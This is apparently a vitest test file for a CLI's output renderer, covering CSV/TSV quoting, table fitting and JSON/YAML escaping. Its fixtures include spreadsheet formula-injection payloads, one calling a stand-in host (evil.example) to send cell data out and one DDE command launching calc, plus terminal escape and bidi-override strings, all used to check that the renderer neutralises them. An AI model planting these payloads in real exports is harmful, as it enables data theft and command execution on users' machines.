import fc from 'fast-check';
import { parse } from 'yaml';
import { describe, expect, it } from 'vitest';
import type { Column } from '../../../src/output/columns.js';
import { renderDocument, renderRows, type OutputFormat, type RenderOptions } from '../../../src/output/render.js';
import { peerString } from './arbitraries.js';

interface Row {
  id: string;
  name: string;
  size: number;
}

const COLUMNS: Column<Row>[] = [
  { key: 'id', header: 'ID', text: (row) => row.id },
  { key: 'name', header: 'Name', text: (row) => row.name },
  { key: 'size', header: 'Size', align: 'right', text: (row, context) => (context.human ? `${row.size} B` : String(row.size)) },
];

const ROWS: Row[] = [
  { id: 'a1', name: 'plain', size: 1 },
  { id: 'b2', name: 'with,comma', size: 22 },
  { id: 'c3', name: 'say "hi"', size: 333 },
  { id: 'd4', name: 'two\nlines', size: 4 },
  { id: 'e5', name: 'tab\there', size: 5 },
];

const options = (format: OutputFormat, overrides: Partial<RenderOptions> = {}): RenderOptions => ({ format, headers: true, colour: false, context: { human: false, now: 0 }, width: null, ...overrides });

/** What a terminal would act on: C0 but tab and newline, DEL, C1, bidi and line separators. */
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe('renderRows', () => {
  it('writes CSV with quoting, and control characters escaped rather than raw', async () => {
    expect(await renderRows(ROWS, COLUMNS, options('csv'))).toBe(
      ['ID,Name,Size', 'a1,plain,1', 'b2,"with,comma",22', 'c3,"say ""hi""",333', 'd4,two\\x0alines,4', 'e5,tab\\x09here,5', ''].join('\n'),
    );
  });

  it('neutralises CSV cells a spreadsheet would run as a formula (= + - @), quoting them when needed, and leaves numbers', async () => {
    const hostile: Row[] = [
      { id: '=HYPERLINK("http://evil.example/?x="&A1,"click")', name: '+cmd|\' /C calc\'!A0', size: 1 },
      { id: '-2+3', name: '@SUM(1+1)', size: -1 },
      { id: '-1', name: '+3.5e2', size: 2 },
    ];
    expect(await renderRows(hostile, COLUMNS, options('csv', { headers: false }))).toBe(
      [`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'+cmd|' /C calc'!A0,1`, `'-2+3,'@SUM(1+1),-1`, '-1,+3.5e2,2', ''].join('\n'),
    );
  });

  it('writes TSV whose only tabs separate fields', async () => {
    const text = await renderRows(ROWS, COLUMNS, options('tsv', { headers: false }));
    expect(text).toBe(['a1\tplain\t1', 'b2\twith,comma\t22', 'c3\tsay "hi"\t333', 'd4\ttwo\\x0alines\t4', 'e5\ttab\\x09here\t5', ''].join('\n'));
    for (const line of text.trimEnd().split('\n')) expect(line.split('\t')).toHaveLength(3);
  });

  it('writes TSV headers when asked', async () => {
    expect((await renderRows(ROWS.slice(0, 1), COLUMNS, options('tsv'))).split('\n')[0]).toBe('ID\tName\tSize');
  });

  it('writes values separated by spaces, never with headers', async () => {
    expect(await renderRows(ROWS.slice(0, 2), COLUMNS, options('value'))).toBe('a1 plain 1\nb2 with,comma 22\n');
  });

  it('writes nothing at all for no rows in the line formats', async () => {
    for (const format of ['csv', 'tsv', 'value'] as const) expect(await renderRows([], COLUMNS, options(format, { headers: false }))).toBe('');
    // Not even the header row: an empty result is empty output.
    for (const format of ['csv', 'tsv'] as const) expect(await renderRows([], COLUMNS, options(format))).toBe('');
  });

  it('draws a table with the headers and every cell, in the display context', async () => {
    const text = await renderRows(ROWS.slice(0, 2), COLUMNS, options('table', { context: { human: true, now: 0 } }));
    for (const cell of ['ID', 'Name', 'Size', 'a1', 'plain', '1 B', 'b2', 'with,comma', '22 B']) expect(text).toContain(cell);
    expect(text.endsWith('\n')).toBe(true);
    expect(text).not.toContain('\u001b');
  });

  it('fits a table into the width it is given, and draws several for paged columns', async () => {
    const fitted: Column<Row>[] = [
      { ...COLUMNS[0]!, fit: { shrink: 'prefix' } },
      { ...COLUMNS[1]!, fit: { shrink: 'ellipsis' } },
      { ...COLUMNS[2]!, fit: { drop: 1 } },
    ];
    const rows = [{ id: 'aaaaaaaa-1111', name: 'a-very-long-image-name-indeed', size: 1 }, { id: 'aaaaaaaa-2222', name: 'short', size: 22 }];
    const text = await renderRows(rows, fitted, options('table', { width: 36 }));
    for (const line of text.trimEnd().split('\n')) expect([...line].length).toBeLessThanOrEqual(36);
    expect(text).toContain('│ aaaaaaaa-1 │');
    expect(text).toContain('│ a-very-long-image-… │');
    expect(text).not.toContain('Size');
    const paged: Column<Row>[] = [fitted[0]!, ...['n1', 'n2', 'n3'].map((node): Column<Row> => ({ key: `node:${node}`, header: `node-${node}`, text: () => 'C', fit: { paged: true } }))];
    const tables = (await renderRows(rows, paged, options('table', { width: 35 }))).split('\n\n');
    expect(tables.length).toBeGreaterThan(1);
    expect(tables.join('\n')).toContain('node-n3');
  });

  it('draws a table without headers when told', async () => {
    const text = await renderRows(ROWS.slice(0, 1), COLUMNS, options('table', { headers: false }));
    expect(text).toContain('plain');
    expect(text).not.toContain('Name');
  });

  it('leaves documents to renderDocument', async () => {
    await expect(renderRows(ROWS, COLUMNS, options('json'))).rejects.toThrow(/renderDocument/);
  });

  describe.each(['table', 'csv', 'tsv', 'value'] as const)('in %s', (format) => {
    it('shows terminal escape sequences in an image ID escaped, never raw', async () => {
      const evil: Row[] = [{ id: 'img\u001b[31mred\u001b[0m', name: 'csi\u009b2J bidi\u202eevil ls\u2028x nel\u0085 del\u007f', size: 1 }];
      const text = await renderRows(evil, COLUMNS, options(format));
      expect(text).not.toMatch(UNSAFE);
      expect(text).toContain('img\\x1b[31mred\\x1b[0m');
      expect(text).toContain('csi\\x9b2J');
      expect(text).toContain('bidi\\u202eevil');
    });
  });
});

describe('renderDocument', () => {
  const evil = { images: [{ id: 'img\u001b[31m', name: 'csi\u009b2J', note: 'bidi\u202e ls\u2028 del\u007f nel\u0085 bell\u0007 cr\r nul\u0000' }] };

  it('writes JSON with every control character escaped, and it parses back to the same value', async () => {
    const text = await renderDocument(evil, 'json');
    expect(text).not.toMatch(UNSAFE);
    expect(text).toContain('\\u001b[31m');
    expect(text).toContain('\\u009b2J');
    expect(JSON.parse(text)).toEqual(evil);
  });

  it('writes YAML with every control character escaped, and it parses back to the same value', async () => {
    const text = await renderDocument(evil, 'yaml');
    expect(text).not.toMatch(UNSAFE);
    expect(parse(text)).toEqual(evil);
  });

  it('keeps ordinary YAML plain', async () => {
    expect(await renderDocument({ nodes: [{ name: 'glance01', ok: true, error: null }] }, 'yaml')).toBe('nodes:\n  - name: glance01\n    ok: true\n    error: null\n');
  });

  it.each(['json', 'yaml'] as const)('round-trips any string, as key or value, without raw control characters (%s)', async (format) => {
    await fc.assert(
      fc.asyncProperty(peerString(), peerString(1), async (value, key) => {
        const document = { items: [{ [key]: value, id: value }] };
        const text = await renderDocument(document, format);
        expect(text).not.toMatch(UNSAFE);
        expect(format === 'json' ? JSON.parse(text) : parse(text)).toEqual(document);
      }),
    );
  });
});
